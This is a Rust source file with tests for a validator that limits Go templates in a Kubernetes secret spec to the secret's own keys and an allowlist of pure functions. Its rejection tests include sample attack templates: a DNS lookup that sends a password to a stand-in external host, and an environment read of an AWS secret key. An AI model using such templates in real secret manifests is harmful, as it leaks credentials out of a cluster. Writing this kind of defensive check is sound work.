//! Checks Go templates in `spec.target.template.data`.
//!
//! They may contain this secret's keys and pure functions only.
//!
//! The operator renders a template with the keys of the value as its variables, so a key is always
//! this secret's own. Its functions are text/template's, sprig's and a few of its own. One of
//! sprig's queries a name server (`getHostByName`, which would leak a value out of the cluster);
//! others are random or read the clock. Only functions that compute their result from their
//! arguments are allowed, and no statements.

const FUNCTIONS: &[&str] = &[
    // text/template
    "and",
    "eq",
    "ge",
    "gt",
    "html",
    "index",
    "js",
    "le",
    "len",
    "lt",
    "ne",
    "not",
    "or",
    "print",
    "printf",
    "println",
    "slice",
    "urlquery", //
    // sprig: text
    "abbrev",
    "camelcase",
    "cat",
    "contains",
    "hasPrefix",
    "hasSuffix",
    "indent",
    "initials",
    "join",
    "kebabcase",
    "lower",
    "nindent",
    "nospace",
    "quote",
    "regexFind",
    "regexMatch",
    "regexQuoteMeta",
    "regexReplaceAll",
    "regexReplaceAllLiteral",
    "regexSplit",
    "replace",
    "snakecase",
    "sortAlpha",
    "split",
    "splitList",
    "splitn",
    "squote",
    "substr",
    "swapcase",
    "title",
    "toString",
    "toStrings",
    "trim",
    "trimAll",
    "trimPrefix",
    "trimSuffix",
    "trunc",
    "untitle",
    "upper",
    "wrap",
    "wrapWith", //
    // sprig: data
    "add",
    "append",
    "atoi",
    "b32dec",
    "b32enc",
    "b64dec",
    "b64enc",
    "bcrypt",
    "coalesce",
    "compact",
    "concat",
    "default",
    "dict",
    "dig",
    "div",
    "empty",
    "first",
    "float64",
    "fromJson",
    "get",
    "has",
    "hasKey",
    "htpasswd",
    "int",
    "int64",
    "keys",
    "last",
    "list",
    "max",
    "merge",
    "min",
    "mod",
    "mul",
    "mustFromJson",
    "mustToJson",
    "omit",
    "pick",
    "prepend",
    "rest",
    "set",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "sub",
    "ternary",
    "toJson",
    "toPrettyJson",
    "toRawJson",
    "uniq",
    "urlJoin",
    "urlParse",
    "values",
    "without", //
    // the operator
    "filterCertChain",
    "filterPEM",
    "fromYaml",
    "fullPemToPkcs12",
    "fullPemToPkcs12Pass",
    "jwkPrivateKeyPem",
    "jwkPublicKeyPem",
    "pemCertificate",
    "pemPrivateKey",
    "pemToPkcs12",
    "pemToPkcs12Pass",
    "pkcs12cert",
    "pkcs12certPass",
    "pkcs12key",
    "pkcs12keyPass",
    "toYaml",
];

const CONSTANTS: [&str; 3] = ["true", "false", "nil"];

/// A key of the value that a template names.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct KeyReference {
    pub key: String,
    /// `index . "key"`, which is empty for a missing key; `.key` is an error.
    pub is_lookup: bool,
}

/// Checks the text of one key.
///
/// # Errors
/// A clause that says why the template is rejected.
pub(crate) fn check(text: &str) -> Result<(), String> {
    references(text).map(drop)
}

/// Checks the text of one key, and returns the keys that it names.
///
/// # Errors
/// A clause that says why the template is rejected.
pub(super) fn references(text: &str) -> Result<Vec<KeyReference>, String> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some((_, inside)) = rest.split_once("{{") {
        rest = action(inside, &mut found)?;
    }
    Ok(found)
}

/// Checks an action up to its `}}`, and returns what follows. Adds the keys it names to `found`.
fn action<'text>(text: &'text str, found: &mut Vec<KeyReference>) -> Result<&'text str, String> {
    let trimmed = text.strip_prefix('-').filter(|rest| rest.starts_with(char::is_whitespace));
    let mut rest = trimmed.unwrap_or(text);
    loop {
        rest = rest.trim_start();
        if let Some(after) = rest.strip_prefix("}}").or_else(|| rest.strip_prefix("-}}")) {
            return Ok(after);
        }
        let Some(first) = rest.chars().next() else { return Err("`{{` is not closed".to_owned()) };
        rest = match first {
            '"' | '`' => &rest[string(rest, first)?..],
            '|' | '(' => &rest[1..],
            // Fields of a result, such as `(.config | fromJson).host`, are not keys of the value.
            ')' => skip_fields(&rest[1..]),
            '-' if rest[1..].starts_with(|next: char| next.is_ascii_digit()) => &rest[1..],
            '.' => {
                let (name, after) = rest[1..].split_at(word(&rest[1..]));
                if !name.is_empty() {
                    found.push(KeyReference { key: name.to_owned(), is_lookup: false });
                }
                skip_fields(after)
            }
            _ if first.is_ascii_digit() => &rest[word(rest)..],
            _ if first.is_ascii_alphabetic() => {
                let (name, after) = rest.split_at(word(rest));
                if !FUNCTIONS.contains(&name) && !CONSTANTS.contains(&name) {
                    return Err(format!("`{name}` is not one of the pure functions"));
                }
                found.extend(
                    looked_up(after)
                        .filter(|_| name == "index")
                        .map(|key| KeyReference { key: key.to_owned(), is_lookup: true }),
                );
                after
            }
            _ => {
                return Err(format!(
                    "`{}` is not allowed between `{{{{` and `}}}}`",
                    first.escape_debug()
                ));
            }
        };
    }
}

/// Returns what follows the fields at the start of `text`, such as `.a.b`.
fn skip_fields(mut text: &str) -> &str {
    while let Some(field) = text.strip_prefix('.') {
        text = &field[word(field)..];
    }
    text
}

/// Returns the key that `index` looks up: its arguments are ` . "key"`.
fn looked_up(arguments: &str) -> Option<&str> {
    let key = arguments.trim_start().strip_prefix('.')?.trim_start();
    let quote = key.chars().next().filter(|quote| matches!(quote, '"' | '`'))?;
    let end = string(key, quote).ok()?;
    key.get(1..end - 1)
}

/// Returns the length of the name or number at the start of `text`.
fn word(text: &str) -> usize {
    text.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count()
}

/// Returns the length of the string at the start of `text`, including its quotes.
fn string(text: &str, quote: char) -> Result<usize, String> {
    let mut characters = text.char_indices().skip(1);
    while let Some((at, character)) = characters.next() {
        match character {
            '\\' if quote == '"' => drop(characters.next()),
            '\n' if quote == '"' => break,
            _ if character == quote => return Ok(at + 1),
            _ => {}
        }
    }
    Err("a string in a template is not closed".to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_and_pure_functions_are_allowed() {
        for text in [
            "plain text",
            "{{ .password }}",
            "postgresql://{{ .username }}:{{- .password | urlquery -}}@{{ .host }}:\
             {{ .port | default 5432 }}/x",
            "{{ index . \"tls.crt\" | b64dec }}",
            "{{ dict \"auths\" (dict .host (dict \"auth\" \
             (printf \"%s:%s\" .user .password | b64enc))) | toJson }}",
            "{{ (.config | fromJson).host }}",
            "{{ printf `}} %s` .password }} }}",
            "{{ .p12 | pkcs12key }} {{ trunc -4 .password }}",
        ] {
            assert_eq!(check(text), Ok(()), "{text}");
        }
    }

    #[test]
    fn the_keys_that_a_template_names_are_found() {
        for (text, keys) in [
            ("plain", ""),
            ("{{ .a }}-{{.b}}", "a b"),
            ("{{ index . \"tls.crt\" | default `x` }}", "tls.crt?"),
            ("{{ (.config | fromJson).host }}", "config"),
            ("{{ .a.b }}", "a"),
            ("{{ printf \"{{ .no }} %s:%s\" .user .password | b64enc }}", "user password"),
            ("{{ . | toJson }}", ""),
        ] {
            let found = references(text).unwrap_or_default();
            let names: Vec<String> = found
                .iter()
                .map(|one| format!("{}{}", one.key, if one.is_lookup { "?" } else { "" }))
                .collect();
            assert_eq!(names.join(" "), keys, "{text}");
        }
    }

    #[test]
    fn external_lookups_and_statements_are_rejected() {
        for (text, part) in [
            ("{{ getHostByName (printf \"%s.elsewhere.example\" .password) }}", "getHostByName"),
            ("x{{ .a }}{{ env \"AWS_SECRET_ACCESS_KEY\" }}", "env"),
            ("{{ range $key, $value := . }}{{ $value }}{{ end }}", "range"),
            ("{{ template \"other\" . }}", "template"),
            ("{{ $x := .a }}", "$"),
            ("{{ call .f }}", "call"),
            ("{{/* comment */}}", "/"),
            ("{{ .a", "not closed"),
            ("{{ \"a }}", "not closed"),
            ("{{ .tls-crt }}", "`-`"),
            ("{{ é }}", "é"),
        ] {
            assert!(check(text).is_err_and(|why| why.contains(part)), "{text}: {:?}", check(text));
        }
    }
}
